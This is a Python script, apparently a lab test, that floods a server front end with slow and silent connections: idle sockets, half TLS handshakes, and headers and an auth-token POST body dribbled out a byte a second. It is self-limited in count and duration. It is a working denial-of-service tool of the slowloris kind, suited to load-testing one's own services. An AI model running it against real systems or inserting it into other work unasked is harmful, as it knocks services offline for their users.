"""Floods a front end with slow and silent connections from one address, and stops by itself.

`python -m tests.lab.flood HOST PORT SOURCE COUNT SECONDS` keeps COUNT connections up, a quarter of each kind: silent ones, halves
of a TLS handshake, headers and bodies that come a byte a second. One that is closed is made again a second later. One process
with epoll: it must cost the machine less than what it attacks. Its output is what became of it, as JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import ssl
import sys
from dataclasses import asdict, dataclass

MOST = 2000
"""Connections at a time, whatever is asked for."""

LONGEST = 180.0
"""Seconds after which it ends, whatever is asked for."""

PAUSE = 1.0
"""Seconds between two bytes, and from the end of a connection to the next one in its place."""

HELLO = bytes.fromhex("160301020001000000")
"""The beginning of a ClientHello of 512 bytes."""

HEAD = b"POST /v3/auth/tokens HTTP/1.1\r\nHost: api\r\n"


@dataclass
class Fate:
    """What became of the connections.

    Args:
        opened: connections that were made.
        failed: connections that could not be made, or were closed before they had said anything.
        most: largest number that was open at a time.
    """

    opened: int = 0
    failed: int = 0
    most: int = 0
    now: int = 0


class Flood:
    """Connections from one address to one front end.

    Args:
        host, port: the front end.
        source: the address they come from, one of this machine's.
    """

    def __init__(self, host: str, port: int, source: str) -> None:
        self._host, self._port, self._source = host, port, source
        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._tls.check_hostname = False
        self._tls.verify_mode = ssl.CERT_NONE  # an attacker does not ask whom it attacks
        self.fate = Fate()

    async def run(self, count: int, seconds: float) -> None:
        """Keep so many connections up for so long, the first ones included."""
        tasks: list[asyncio.Task[None]] = []
        clock = asyncio.get_running_loop().time
        end = clock() + min(seconds, LONGEST)
        while len(tasks) < min(count, MOST) and clock() < end:
            tasks.append(asyncio.create_task(self._again_and_again(len(tasks) % 4)))
            await asyncio.sleep(0.001)
        await asyncio.sleep(end - clock())
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def _again_and_again(self, kind: int) -> None:
        while True:
            try:
                await self._one(kind)
            except OSError:
                self.fate.failed += 1
            await asyncio.sleep(PAUSE)

    async def _one(self, kind: int) -> None:
        tls = self._tls if kind > 1 else None
        async with asyncio.timeout(10):
            reader, writer = await asyncio.open_connection(
                self._host, self._port, local_addr=(self._source, 0), ssl=tls
            )
        self.fate.opened += 1
        self.fate.now += 1
        self.fate.most = max(self.fate.most, self.fate.now)
        try:
            writer.write((b"", HELLO, HEAD, HEAD + b"Content-Length: 9999\r\n\r\n{")[kind])
            if kind < 2:
                await reader.read()
                return
            ended = asyncio.create_task(reader.read())
            while not ended.done() and not writer.is_closing():
                writer.write(b"x" if kind == 3 else b"X-A: b\r\n")
                await asyncio.wait([ended], timeout=PAUSE)
            ended.cancel()
        finally:
            self.fate.now -= 1
            writer.transport.abort()


def main() -> int:
    """0, always: to be refused is what an attacker reckons with."""
    host, port, source, count, seconds = sys.argv[1:]
    signal.alarm(round(LONGEST) + 30)
    os.nice(10)
    flood = Flood(host, int(port), source)
    asyncio.run(flood.run(int(count), float(seconds)))
    print(json.dumps(asdict(flood.fate)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
